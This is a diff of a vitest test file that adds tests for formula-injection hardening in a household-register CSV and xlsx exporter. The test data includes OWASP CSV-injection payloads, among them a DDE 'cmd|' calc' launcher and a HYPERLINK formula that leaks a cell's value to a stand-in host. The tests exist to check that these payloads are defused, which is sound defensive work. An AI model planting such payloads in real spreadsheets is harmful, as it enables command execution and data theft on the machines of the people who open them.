@@ -4,6 +4,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { Writable } from 'node:stream';
 import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
 import { afterAll, describe, expect, it } from 'vitest';
 import { syntheticRows } from './fixtures.ts';
 import { COLUMN_IDS, COLUMNS, type ColumnId } from './headers.ts';
@@ -159,18 +160,105 @@ describe('writeRegisterCsv', () => {
     });
     await expect(writeRegisterCsv(out, syntheticRows(30_000), { lang: 'zh-CN' })).rejects.toThrow(/closed/);
   });
+});
 
-  it('neutralises cells Excel would run as formulas', async () => {
-    await writeRegisterCsv(
-      file('inject.csv'),
-      [{ household_no: 'H1', name: '=HYPERLINK("http://x")', id_number: '1', relation: '-户主' }],
-      {
-        lang: 'en',
-      },
+/** Text a spreadsheet would run (OWASP CSV injection), text that only looks close, and numbers that must stay numbers. */
+const ATTACKS = [
+  "-1+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://x.example/?q="&A1,"点这里")',
+  '+1+2',
+  '@SUM(A1:A2)',
+  "-0+HYPERLINK('x')",
+  "'=quoted",
+  '-',
+];
+const TRICKY: RegisterRow = {
+  household_no: 'H1',
+  name: ATTACKS[0],
+  id_number: '21138119900101123X',
+  relation: '户主',
+  helper: ATTACKS[1],
+  ethnicity: ATTACKS[2],
+  education: ATTACKS[3],
+  health: ATTACKS[4],
+  labour_skill: ATTACKS[5],
+  work_status: ATTACKS[6],
+  poverty_cause: '-300',
+  income_per_capita: -120.5,
+  phone: '\t13800000000',
+  city: '\r=1+1',
+};
+
+describe('formula injection', () => {
+  it('CSV: text that Excel would run gets a leading quote; numbers, plain-number text and ID numbers do not', async () => {
+    await writeRegisterCsv(file('inject.csv'), [TRICKY], { lang: 'en' });
+    const line = readFileSync(file('inject.csv'), 'utf8').split('\r\n')[1];
+    const fields = line.split(',');
+    expect(line).toContain(`"'-1+cmd|' /C calc'!A0"`.replace(/^"|"$/g, ''));
+    expect(line).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1`);
+    for (const v of ["'+1+2", "'@SUM(A1:A2)", `"'-0+HYPERLINK('x')"`.replace(/"/g, ''), "''=quoted", "'-", "'\t13800000000", `"'\r=1+1"`])
+      expect(line, v).toContain(v);
+    expect(fields).toContain('-300');
+    expect(fields).toContain('-120.5');
+    expect(fields).toContain('21138119900101123X');
+    // No field, once CSV quoting is taken off, starts with a character Excel runs.
+    const { data } = Papa.parse<string[]>(line);
+    for (const cell of data[0]) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('xlsx: the same text as plain, text-formatted string cells with the quote, never a formula; numbers stay numbers', async () => {
+    await writeRegisterXlsx(file('inject.xlsx'), [TRICKY], { lang: 'en' });
+    // exceljs writes a string as <c t="str"><v>…</v></c> with no <f>: a value, not a formula (read back, a formula
+    // would come as { formula } instead of a string).
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(file('inject.xlsx'));
+    const row = wb.worksheets[0].getRow(2);
+    const col = (id: ColumnId) => COLUMN_IDS.indexOf(id) + 1;
+    expect(row.getCell(col('name')).value).toBe(`'${ATTACKS[0]}`);
+    expect(row.getCell(col('name')).numFmt).toBe('@');
+    expect(row.getCell(col('helper')).value).toBe(`'${ATTACKS[1]}`);
+    expect(row.getCell(col('labour_skill')).value).toBe(`''=quoted`);
+    expect(row.getCell(col('income_per_capita')).value).toBe(-120.5);
+    expect(row.getCell(col('poverty_cause')).value).toBe('-300');
+    expect(row.getCell(col('id_number')).value).toBe('21138119900101123X');
+  });
+
+  it('reads both files back as the original text (the round trip a clerk makes)', async () => {
+    for (const name of ['inject.csv', 'inject.xlsx']) {
+      const { rows } = await readBack(file(name));
+      const cells = rows[0].cells;
+      expect(cells.name, name).toBe(ATTACKS[0]);
+      expect(cells.helper, name).toBe(ATTACKS[1]);
+      expect([cells.ethnicity, cells.education, cells.health, cells.labour_skill, cells.work_status], name).toEqual(ATTACKS.slice(2));
+      expect(cells.poverty_cause, name).toBe('-300');
+      expect(cells.income_per_capita, name).toBe(name.endsWith('.csv') ? '-120.5' : -120.5);
+      expect(cells.phone, name).toBe('\t13800000000');
+    }
+  });
+
+  it('the problem report quotes such cells once, also when the file already carried the quote', async () => {
+    const header = ['户编号', '证件号码', '与户主关系', '姓名', '帮扶责任人', '=1+1'];
+    await writeErrorReport(
+      file('inject-report.xlsx'),
+      header,
+      [{ raw: ['H1', '21138119900101123X', '户主', ATTACKS[0], `'${ATTACKS[1]}`, -5], reasons: ['=reason'] }],
+      { lang: 'zh-CN' },
     );
-    const text = readFileSync(file('inject.csv'), 'utf8');
-    expect(text).toContain(`"'=HYPERLINK(""http://x"")"`);
-    expect(text).toContain("'-户主");
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(file('inject-report.xlsx'));
+    const ws = wb.worksheets[0];
+    expect((ws.getRow(1).values as unknown[]).slice(5)).toEqual(['帮扶责任人', "'=1+1", '错误原因']);
+    expect((ws.getRow(2).values as unknown[]).slice(1)).toEqual([
+      'H1',
+      '21138119900101123X',
+      '户主',
+      `'${ATTACKS[0]}`,
+      `'${ATTACKS[1]}`,
+      -5,
+      "'=reason",
+    ]);
+    const { rows } = await readBack(file('inject-report.xlsx'));
+    expect([rows[0].cells.name, rows[0].cells.helper]).toEqual([ATTACKS[0], ATTACKS[1]]);
   });
 });
 
